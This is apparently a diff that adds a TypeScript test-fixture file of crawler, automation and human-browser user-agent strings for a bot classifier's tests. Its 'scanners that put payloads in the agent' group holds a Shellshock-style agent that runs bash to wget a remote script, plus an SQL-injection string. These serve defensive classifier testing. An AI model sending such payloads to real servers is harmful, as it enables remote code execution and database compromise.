@@ -1,0 +1,213 @@
+/**
+ * Real agents of the kinds the crawler-truth check found missed or wrongly flagged, for the classifier's tests
+ * and the ingest endpoints' tests. Crawler agents are as crawler lists (monperrus/crawler-user-agents,
+ * arcjet/well-known-bots) and vendors' crawler pages print them; people's agents as parser test data
+ * (ua-parser/uap-core, bowser) gives them. `token` is the catalog token expected, or "unknown" for automation
+ * the catalog does not name; `category` the category expected.
+ */
+
+export interface AutomatedAgent {
+  ua: string;
+  token: string;
+  category: string;
+}
+
+/** Automated agents by kind: each must be flagged (crawler or automation), never a person. */
+export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
+  "Google special-case crawler or user-triggered fetcher": [
+    {
+      ua:
+        "Mozilla/5.0 (Linux; Android 9; SAMSUNG SM-G960U) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 (compatible; Google-AMPHTML)",
+      token: "Google-AMPHTML",
+      category: "other",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Safari/537.36 (compatible; Google-HotelAdsVerifier/2.0)",
+      token: "Google-HotelAdsVerifier",
+      category: "other",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Linux; Android 11; Pixel 2; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.193 Mobile Safari/537.36",
+      token: "DuplexWeb-Google",
+      category: "ai_assistant",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 (compatible; Google Web Light)",
+      token: "Google Web Light",
+      category: "other",
+    },
+    {
+      ua: "Mozilla/5.0 (compatible; Google-Business-Link-Verification/1.0)",
+      token: "Google-Business-Link-Verification",
+      category: "monitoring",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 Chrome-Lighthouse",
+      token: "Chrome-Lighthouse",
+      category: "monitoring",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Safari/537.36 Google-Ads-Conversions",
+      token: "Google-Ads-Conversions",
+      category: "other",
+    },
+  ],
+  "Microsoft, Apple, Yandex, Baidu, Naver, Daum and Sogou crawlers": [
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Safari/537.36 Edg/126.0.2592.102 (compatible; BingPreview/1.0b)",
+      token: "BingPreview",
+      category: "social_preview",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
+      token: "Applebot",
+      category: "search_engine",
+    },
+    {
+      ua: "Mozilla/5.0 (compatible; YandexMetrika/2.0; +http://yandex.com/bots)",
+      token: "YandexMetrika",
+      category: "monitoring",
+    },
+    {
+      ua: "Mozilla/5.0 (compatible; Baiduspider-render/2.0; +http://www.baidu.com/search/spider.html)",
+      token: "Baiduspider-render",
+      category: "search_engine",
+    },
+    {
+      ua: "Mozilla/5.0 (compatible; Yeti/1.1; +https://naver.me/spd)",
+      token: "Yeti",
+      category: "search_engine",
+    },
+    {
+      ua: "Mozilla/5.0 (compatible; Daum/4.1; +http://cs.daum.net/faq/15/4118.html?faqId=28966)",
+      token: "Daumoa",
+      category: "search_engine",
+    },
+    {
+      ua: "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
+      token: "Sogou web spider",
+      category: "search_engine",
+    },
+  ],
+  "monitoring, performance, SEO and security tools appending their token to a browser agent": [
+    {
+      ua:
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/62.0.3202.75 Safari/537.36 DareBoost",
+      token: "DareBoost",
+      category: "monitoring",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.212 Safari/537.36 Hardenize",
+      token: "Hardenize",
+      category: "security_scanner",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 SecurityHeaders",
+      token: "SecurityHeaders",
+      category: "security_scanner",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/95.0.4638.69 Safari/537.36 Silktide",
+      token: "Silktide",
+      category: "monitoring",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:41.0) Gecko/20100101 Firefox/55.0 BrandVerity/1.0 (http://www.brandverity.com/why-is-brandverity-visiting-me)",
+      token: "BrandVerity",
+      category: "seo_tool",
+    },
+  ],
+  "tools the catalog does not name, caught by the structural rule": [
+    // the same shapes with product names no list holds: a product appended after a complete browser agent
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 PageWatchman/1.2",
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 TagInspector",
+      token: "unknown",
+      category: "other",
+    },
+  ],
+  "feed readers, podcast and newsletter fetchers": [
+    {
+      ua: "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)",
+      token: "FeedFetcher-Google",
+      category: "feed_fetcher",
+    },
+    {
+      ua: "PocketCasts/1.0 (Pocket Casts Feed Parser; +http://pocketcasts.com/)",
+      token: "PocketCasts",
+      category: "feed_fetcher",
+    },
+    {
+      ua: "Mozilla/5.0 (compatible; YandexBlogs/0.99; robot; +http://yandex.com/bots)",
+      token: "YandexBlogs",
+      category: "feed_fetcher",
+    },
+  ],
+  "archivers": [
+    {
+      ua: "Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)",
+      token: "archive.org_bot",
+      category: "archiver",
+    },
+  ],
+  "link-preview, image-proxy and mail-client image-proxy fetchers": [
+    {
+      ua: "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
+      token: "GoogleImageProxy",
+      category: "social_preview",
+    },
+    {
+      ua: "Mozilla/5.0 (compatible; YandexScreenshotBot/3.0; +http://yandex.com/bots)",
+      token: "YandexScreenshotBot",
+      category: "social_preview",
+    },
+  ],
+  "scanners that put payloads in the agent": [
+    { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
+    { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
+  ],
+};
+
+/** People's software by kind: each must stay human. */
+export const PEOPLE_KINDS: Record<string, string[]> = {
+  "desktop and TV software": [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.84 AdobeCEP/11.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.8 (KHTML, like Gecko) Slack_SSB/2.0.3",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Avira/131.0.0.0",
+    "Mozilla/5.0 (Linux; NetCast; U) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36 SmartTV/10.0 Colt/2.0",
+    "Transmit/5.6.0",
+  ],
+  "OS components and in-app browsers": [
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+    "Mozilla/5.0 (Linux; Android 7.0; SM-G930F Build/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/64.0.3282.137 Mobile Safari/537.36 Onefootball/Android/9.10.6",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+  ],
+  "media apps by product name alone": [
+    "Barca/2.8.2",
+    "Doppler 2.9.5.4",
+    "Pocket Casts",
+    "Spotify/1.0",
+    "foobar2000/1.2.3",
+  ],
+  "exotic browsers": [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Herring/95.5.4464.65",
+    "Mozilla/5.0 (AmigaOS; U; AmigaOS 1.3; en-US; rv:1.8.1.21) Gecko/20090303 Timberwolf/2.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 SLBrowser/9.0.5.12181 SLBChan/105 SLBVPV/64-bit",
+  ],
+};
